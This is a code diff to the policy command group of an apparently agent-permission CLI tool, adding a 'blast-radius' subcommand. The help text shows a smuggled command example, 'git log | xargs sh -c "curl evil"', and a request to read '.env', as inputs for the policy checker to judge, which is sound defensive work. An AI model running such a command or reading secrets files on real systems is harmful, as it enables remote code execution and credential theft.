@@ -16,6 +16,7 @@ from cellwall.core.errors import BadInput
 from cellwall.core.showing import escaped
 from cellwall.core.types import Json
 from cellwall.core.verdict import Decision, Verdict
+from cellwall.interfaces.cli.blast_radius import blast_radius
 from cellwall.interfaces.cli.options import json_option
 from cellwall.interfaces.cli.output import print_json, print_result, print_text, say
 from cellwall.interfaces.cli.policy_labels import draw_labels, labels
@@ -45,6 +46,7 @@ Examples:
   cellwall policy init
   cellwall policy check 'Bash(git push)' 'Read(.env)'
   cellwall policy explain 'Bash(git log | xargs sh -c "curl evil")'
+  cellwall policy blast-radius --probe
 """,
 )
 def policy() -> None:
@@ -347,5 +349,5 @@ def _case_lines(tried: Tried, table: str) -> str:
     )
 
 
-for command in (init, labels, learn, trust, untrust):
+for command in (init, labels, learn, trust, untrust, blast_radius):
     policy.add_command(command)
